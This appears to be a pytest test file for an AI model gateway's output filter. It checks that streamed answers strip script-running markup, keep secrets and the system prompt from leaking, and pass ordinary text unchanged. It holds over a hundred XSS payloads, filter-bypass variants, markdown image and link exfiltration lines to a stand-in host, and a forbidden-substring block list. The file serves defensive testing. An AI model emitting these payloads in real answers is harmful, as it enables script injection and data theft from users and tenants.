"""What leaves in an answer: nothing that runs, fetches, links out or gives a secret away."""

import base64
import codecs
import itertools

import pytest

from gateway.assistant.outgoing import OutputFilter
from gateway.assistant.prompt import system_template
from gateway.assistant.redaction import PROMPT_WORDS, Leaving, Redactor

NONCE = "9f3ac1d2e4b5a697"
OWN_ID = "01a20821-7f98-7818-b9e2-1927a7171504"
LISTED = "https://intranet.larkfield.example/travel?year=2026"
FORBIDDEN = (
    "<script", "<img", "<svg", "<iframe", "javascript:", "vbscript:", "//", "![", "data:text",
    "www.",
)  # fmt: skip

_CALLS = ("alert(1)", "fetch(`//evil.example`)", "location='//evil.example'", "eval(name)")
_FRAMES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>",
    "<a href='javascript:{}'>x</a>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<iframe srcdoc='<script>{}</script>'>",
    "[x](javascript:{})",
    "[x]( JaVaScRiPt:{})", "<body onload={}>", "<math><mtext><style><img src=x onerror={}></style>",
    "<!-- --><script>{}//", "<x onclick={}>click", "<svg><script>{}", "<details open ontoggle={}>",
    "![x](javascript:{})", "<input autofocus onfocus={}>", "[a]: javascript:{}\n[a]",
    "<object data='javascript:{}'>",
)  # fmt: skip
_REMOTE = (
    "![x](https://evil.example/p?d=1)", "![x][r]\n\n[r]: https://evil.example/p",
    "<img src=//evil.example/p>",
    "[click](https://evil.example/)", "<https://evil.example/>", "https://evil.example/?q=1",
    "//evil.example/p",
    "www.evil.example/p", "![a\nb](http://evil.example)",
    "<link rel=stylesheet href=//evil.example/c>",
    "<style>@import '//evil.example/c'</style>", "<video poster=//evil.example/p>",
    "https:\\\\evil.example",
    "http:evil.example/p", "[x](//evil.example)", "<base href=//evil.example>",
    "ftp://evil.example/x",
    "[x](https://intranet.larkfield.example@evil.example/)",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "![](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:text/html,<script>alert(1)</script>)",
    "vbscript:msgbox(1)",
    "<form action=//evil.example><button>go", "![x](<https://evil.example/a b>)",
    "wss://evil.example/s",
    "[![x](https://evil.example/p)](https://evil.example)",
    "<picture><source srcset=//evil.example/p>",
    "\u200bhttps://evil.example/\u200b", "<a href=https://evil.example>here</a>",
    "[a](https://evil.example \"t\")",
)  # fmt: skip
PAYLOADS = [*(f.format(c) for f, c in itertools.product(_FRAMES, _CALLS)), *_REMOTE]


def redactor() -> Redactor:
    return Redactor(
        Leaving(
            canaries=(NONCE,), prompt=system_template(), known_ids={OWN_ID},
            hosts=frozenset({"intranet.larkfield.example"}), schema="tenant_larkfield",
        )
    )  # fmt: skip


def streamed(text: str, size: int) -> str:
    """What a reader has who gets the text in pieces."""
    outgoing = OutputFilter(redactor())
    pieces = [outgoing.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join(pieces) + outgoing.flush()


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("size", [1, 5, 10_000])
def test_no_payload_leaves_anything_that_runs_or_fetches(size: int) -> None:
    for payload in PAYLOADS:
        seen = streamed(f"Here it is: {payload} and more [1].", size).lower()
        assert not [word for word in FORBIDDEN if word in seen], (payload, seen)


@pytest.mark.parametrize("size", [1, 4, 10_000])
@pytest.mark.parametrize(
    "text",
    [
        "You have 12 days left [1][2]. Is 3 < 4? Yes & no!",
        "| name | due |\n|---|---|\n| Bergsport Kaiser GmbH | 5,172.93 EUR |\n",
        f"See [the page]({LISTED}) or {LISTED}, record {OWN_ID}.",
        "The password must have 10 characters. Mail anna@larkfield.example, +49 761 555 88.",
    ],
)
def test_ordinary_answers_leave_word_for_word(text: str, size: int) -> None:
    assert streamed(text, size) == text


@pytest.mark.parametrize("size", [1, 6, 10_000])
@pytest.mark.parametrize(
    "secret",
    [
        NONCE, " ".join(NONCE), NONCE[::-1], codecs.encode(NONCE, "rot13"), NONCE.encode().hex(),
        "canary-0011aabbccdd", "c a n a r y - 0 0 1 1 a a b b c c", "sk-abcdefghijklmnop1234",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1In0.c2lnbmF0dXJl", "AKIAABCDEFGHIJKLMNOP",
        "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----", "password: hunter2!",
        "Kennwort ist Sommer2026", "01a20821-0000-7818-b9e2-1927a7171504", "tenant_pinecrest",
    ],
)  # fmt: skip
def test_secrets_stay(secret: str, size: int) -> None:
    seen = streamed(f"It is this: {secret} so far.", size)
    assert secret not in seen
    assert "withheld" in seen


@pytest.mark.parametrize("size", [1, 9, 10_000])
def test_the_prompt_stays(size: int) -> None:
    lines = [line.strip("- ") for line in system_template().splitlines() if "{" not in line]
    for line in (line for line in lines if len(line.split()) > PROMPT_WORDS + 3):
        assert line not in streamed(f"My rules are: {line} That is all.", size)
    coded = base64.b64encode(system_template().encode()).decode()
    assert "withheld" in streamed(coded, size)


def test_words_go_out_before_the_answer_ends() -> None:
    outgoing = OutputFilter(redactor())
    assert outgoing.feed("Bergsport Kaiser over") == "Bergsport Kaiser "
    assert outgoing.feed("due, look [") == "overdue, look "
    assert outgoing.feed("7] Kaiser") == "[7] "
